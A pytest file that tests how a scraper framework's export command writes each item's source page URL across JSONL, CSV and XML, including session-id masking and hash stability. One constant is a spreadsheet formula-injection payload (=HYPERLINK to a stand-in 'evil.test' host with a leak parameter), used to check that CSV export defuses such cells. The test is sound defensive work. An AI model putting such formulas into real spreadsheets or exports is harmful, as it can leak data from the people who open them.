"""`framework export` writes the page each item came from as ``url``, beside the keys and
outside the data and its hash. Through the real command (in-process) on real
workspaces written through the store's own ``seed`` + ``commit``."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

from framework.cli import main
from framework.workspace import ItemWrite, NewRow, Outcome, Workspace

PAGE = "http://site.test/cases/1?sid=s3cr3t&page=2"
SHOWN = "http://site.test/cases/1?sid=[redacted]&page=2"  # a session id is masked
FORMULA = '=HYPERLINK("http://evil.test/?leak=1")'


def _write(ws: Path, url: str, items: dict[str, dict[str, Any]]) -> None:
    """One page at ``url`` writing ``items`` (source id -> data) in one commit."""
    with Workspace.open(ws) as w:
        (row,) = w.store.seed([NewRow("detail", url)])
        writes = [ItemWrite(f"t:{sid}", "t", sid, data) for sid, data in items.items()]
        w.store.commit(Outcome(row.id, ok=True, items=writes))


def _hashes(ws: Path) -> dict[str, str]:
    with Workspace.open(ws, create=False, readonly=True) as w:
        return {i.dedupe_key: i.content_hash for i in w.store.iter_items(complete_only=False)}


def _jsonl(ws: Path, out: Path) -> list[dict[str, Any]]:
    assert main(["export", "anyjob", "--workspace", str(ws), "-o", str(out)]) == 0
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def test_jsonl_items_carry_their_page_url_after_the_keys(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    _write(ws, PAGE, {"1": {"title": "one", "amount": 5}})
    (item,) = _jsonl(ws, tmp_path / "items.jsonl")
    assert list(item) == ["dedupe_key", "source_type", "source_id", "url", "amount", "title"]
    assert item == {
        "dedupe_key": "t:1",
        "source_type": "t",
        "source_id": "1",
        "url": SHOWN,
        "amount": 5,
        "title": "one",
    }


def test_a_moved_page_changes_neither_the_hash_nor_the_url_new_content_moves_both(
    tmp_path: Path,
) -> None:
    ws = tmp_path / "ws"
    _write(ws, "http://site.test/a/1", {"1": {"title": "one"}})
    before = _hashes(ws)
    # the same record found on another page: not a change, the item keeps its page
    _write(ws, "http://site.test/b/1", {"1": {"title": "one"}})
    assert _hashes(ws) == before
    (item,) = _jsonl(ws, tmp_path / "a.jsonl")
    assert item["url"] == "http://site.test/a/1"
    # new content: the URL is the page that wrote it, and only the data made the new hash
    _write(ws, "http://site.test/c/1", {"1": {"title": "two"}})
    (item,) = _jsonl(ws, tmp_path / "b.jsonl")
    assert item["url"] == "http://site.test/c/1"
    assert _hashes(ws) != before
    _write(ws, "http://site.test/d/2", {"2": {"title": "two"}})
    hashes = _hashes(ws)
    assert hashes["t:1"] == hashes["t:2"]  # same data, other page and key: same hash


def test_a_field_named_url_keeps_its_value_and_the_page_is_page_url(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    _write(
        ws,
        "http://site.test/list/1",
        {
            "1": {"url": "http://shop.test/item/1", "title": "one"},
            "2": {"url": "http://shop.test/item/2", "page_url": "mine", "title": "two"},
        },
    )
    one, two = _jsonl(ws, tmp_path / "items.jsonl")
    assert one["url"] == "http://shop.test/item/1"  # the record's own field wins
    assert one["page_url"] == "http://site.test/list/1"
    # both names are the record's: its data is written as it is, no page key added
    assert two == {
        "dedupe_key": "t:2",
        "source_type": "t",
        "source_id": "2",
        "page_url": "mine",
        "title": "two",
        "url": "http://shop.test/item/2",
    }


def test_csv_has_a_url_column_and_guards_it_like_every_cell(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    _write(ws, PAGE, {"1": {"title": "one"}})
    _write(ws, FORMULA, {"2": {"title": "two"}})  # a stored URL a spreadsheet would run
    out = tmp_path / "items.csv"
    assert main(["export", "anyjob", "--workspace", str(ws), "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert list(rows[0]) == ["dedupe_key", "source_type", "source_id", "url", "title"]
    assert [(r["dedupe_key"], r["url"]) for r in rows] == [("t:1", SHOWN), ("t:2", "'" + FORMULA)]
    raw = tmp_path / "raw.csv"
    args = ["export", "anyjob", "--workspace", str(ws), "-o", str(raw), "--keep-formulas"]
    assert main(args) == 0
    kept = list(csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8"), newline="")))
    assert kept[1]["url"] == FORMULA


def test_an_item_whose_page_row_is_gone_exports_no_url(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    _write(ws, PAGE, {"1": {"title": "one"}})
    with Workspace.open(ws) as w:
        w.store.reset_rows()  # what `crawl --fresh` does: items stay, their rows go
    (item,) = _jsonl(ws, tmp_path / "items.jsonl")
    assert item["url"] is None
    out = tmp_path / "items.xml"
    assert main(["export", "anyjob", "--workspace", str(ws), "-o", str(out)]) == 0
    (element,) = ET.parse(out).getroot()  # noqa: S314 - our own file
    assert element.find("url") is None  # XML has no null: left out
    assert element.findtext("title") == "one"
